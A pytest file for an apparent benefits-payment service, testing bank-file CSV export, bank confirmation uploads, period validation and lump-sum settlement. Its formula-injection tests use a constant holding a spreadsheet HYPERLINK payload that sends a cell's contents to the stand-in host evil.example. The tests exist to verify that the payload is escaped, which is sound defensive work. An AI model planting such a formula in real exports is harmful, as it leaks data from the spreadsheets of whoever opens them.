"""What reaches the bank and comes back from it: no formula in any cell of a file the service
hands out, one answer per reference, and runs only for months the service pays."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import time_machine
from sqlalchemy import func, select, update

from miniapp_api.claims.models import Claim
from miniapp_api.db import unit_of_work
from miniapp_api.documents.tables import csv_bytes, neutral
from miniapp_api.identifiers import make_credit_code
from miniapp_api.records.demo import seed_regions
from miniapp_api.safety.models import RecoveryItem
from notifications.standins.wechat_server import WeChatStandIn
from tests.auth_helpers import bearer, face_verify, staff_login
from tests.claims_helpers import claimant, submit

NOVEMBER = dt.datetime(2026, 11, 16, 2, 0, tzinfo=dt.UTC)
DECEMBER = dt.datetime(2026, 12, 3, 2, 0, tzinfo=dt.UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&D2,"点击查看")'


def _bank_rows(client: Any, tokens: dict[str, Any], run_id: int) -> list[list[str]]:
    exported = client.get(f"/api/v1/finance/payment-runs/{run_id}/bank-file.csv", headers=bearer(tokens))
    return list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))[1:]


def _answer(client: Any, tokens: dict[str, Any], run_id: int, rows: list[str]) -> Any:
    body = ("业务编号,结果,原因\n" + "\n".join(rows) + "\n").encode("utf-8-sig")
    return client.post(
        f"/api/v1/finance/payment-runs/{run_id}/confirmation",
        data={"file": (io.BytesIO(body), "回盘.csv")},
        headers=bearer(tokens),
        content_type="multipart/form-data",
    )


def test_a_formula_for_a_bank_name_is_refused_naming_the_field(client: Any, wechat_standin: WeChatStandIn) -> None:
    tokens = claimant(client, wechat_standin)
    account = {"source": "other", "bank_name": FORMULA, "account_number": "6217000010001234569"}
    refused = client.put("/api/v1/claims/draft", json={"bank_account": account}, headers=bearer(tokens))
    assert refused.status_code == 422
    assert "开户银行应为银行或支行的中文名称" in str(refused.get_json()["details"])
    fine = {**account, "bank_name": "中国建设银行唐山分行（路北支行）"}
    assert client.put("/api/v1/claims/draft", json={"bank_account": fine}, headers=bearer(tokens)).status_code == 200


def test_every_cell_that_a_spreadsheet_would_run_is_written_as_text() -> None:
    assert [neutral(v) for v in ("=1+1", "+86", "-3", "@SUM(A1)", "\tx", "\rx", "中国银行", "12.50", None)] == [
        "'=1+1", "'+86", "'-3", "'@SUM(A1)", "'\tx", "'\rx", "中国银行", "12.50", "",
    ]  # fmt: skip
    assert csv_bytes(["a"], [["=x"]]).decode("utf-8-sig").splitlines() == ["a", "'=x"]


def test_a_bank_name_stored_before_the_rule_reaches_the_bank_file_as_text(
    client: Any, wechat_standin: WeChatStandIn
) -> None:
    with time_machine.travel(NOVEMBER, tick=True):
        tokens = claimant(client, wechat_standin, stop_date=dt.date(2026, 10, 31))
        account = {"source": "other", "bank_name": "中国建设银行", "account_number": "6217000010001234569"}
        claim = submit(client, tokens, edits={"bank_account": account}).get_json()
    with unit_of_work() as session:
        session.execute(update(Claim).where(Claim.id == claim["id"]).values(bank_name=FORMULA))
    with time_machine.travel(DECEMBER, tick=True):
        finance = staff_login(client, "finance1", "finance", region="130200")
        run = client.post("/api/v1/finance/payment-runs", json={"period": "2026-12"}, headers=bearer(finance))
        rows = _bank_rows(client, finance, run.get_json()["id"])
    assert rows and all(row[2] == "'" + FORMULA for row in rows)


def test_a_bank_answer_naming_a_reference_twice_is_refused_naming_the_rows(
    client: Any, wechat_standin: WeChatStandIn
) -> None:
    with time_machine.travel(NOVEMBER, tick=True):
        tokens = claimant(client, wechat_standin, stop_date=dt.date(2026, 10, 31))
        submit(client, tokens)
    with time_machine.travel(DECEMBER, tick=True):
        finance = staff_login(client, "finance1", "finance", region="130200")
        run_id = client.post("/api/v1/finance/payment-runs", json={"period": "2026-12"}, headers=bearer(finance))
        run_id = run_id.get_json()["id"]
        first, second = (row[0] for row in _bank_rows(client, finance, run_id))
        refused = _answer(client, finance, run_id, [f"{first},成功,", f"{second},成功,", f"{first},失败,账户已销户"])
        assert refused.status_code == 422
        body = refused.get_json()
        assert body["code"] == "DUPLICATE_REFERENCE"
        assert f"业务编号{first}出现了2次（第2、4行）" in body["message"]
        described = client.get(f"/api/v1/finance/payment-runs/{run_id}", headers=bearer(finance)).get_json()
        assert described["by_status"] == {"issued": 2, "paid": 0, "failed": 0}  # nothing settled


def test_a_run_is_only_for_a_month_the_service_pays(client: Any) -> None:
    with unit_of_work() as session:
        seed_regions(session)
    finance = staff_login(client, "finance1", "finance", region="130200")
    for period in ("0000-01", "0001-01", "1900-01", "2019-12"):  # year 0 was a 500
        refused = client.post("/api/v1/finance/payment-runs", json={"period": period}, headers=bearer(finance))
        assert refused.status_code == 422, period
        assert "period" in refused.get_json()["details"]["fields"]


def test_a_lump_sum_leaves_a_month_already_in_a_bank_file_to_the_banks_answer(
    client: Any, wechat_standin: WeChatStandIn
) -> None:
    with time_machine.travel(NOVEMBER, tick=True):
        tokens = claimant(client, wechat_standin, months=30, region_code="152200", stop_date=dt.date(2026, 10, 31))
        claim = submit(client, tokens).get_json()
    with time_machine.travel(DECEMBER, tick=True):
        finance = staff_login(client, "finance.xa", "finance", region="152200")
        run_id = client.post("/api/v1/finance/payment-runs", json={"period": "2026-12"}, headers=bearer(finance))
        run_id = run_id.get_json()["id"]
        in_file = _bank_rows(client, finance, run_id)
        assert [row[5] for row in in_file] == ["2026-11", "2026-12"]
        refreshed = client.post("/api/v1/auth/refresh", json={"refresh_token": tokens["refresh_token"]})
        tokens = {**tokens, **refreshed.get_json()}
        face_verify(tokens, tokens["person_id"])
        code = make_credit_code("152201", "MA0TEA001")
        settled = client.post(
            f"/api/v1/claims/{claim['id']}/lump-sum", json={"business_credit_code": code}, headers=bearer(tokens)
        )
        assert settled.status_code == 200, settled.get_json()
        payments = settled.get_json()["payments"]
        (lump,) = [p for p in payments if p["kind"] == "lump_sum"]
        monthly = {p["period"]: p for p in payments if p["kind"] == "monthly"}
        # December went to the bank before the request: it is neither counted again nor cancelled.
        assert monthly["2026-12"]["status"] == "scheduled"
        later = [p for period, p in monthly.items() if period > "2026-12"]
        assert Decimal(lump["amount"]) == sum(Decimal(p["amount"]) for p in later)
        assert all(p["status"] == "cancelled" for p in later)
        paid = _answer(client, finance, run_id, [f"{row[0]},成功," for row in in_file])
        assert paid.status_code == 200, paid.get_json()
    with unit_of_work() as session:
        assert session.scalar(select(func.count()).select_from(RecoveryItem)) == 0  # nothing paid twice
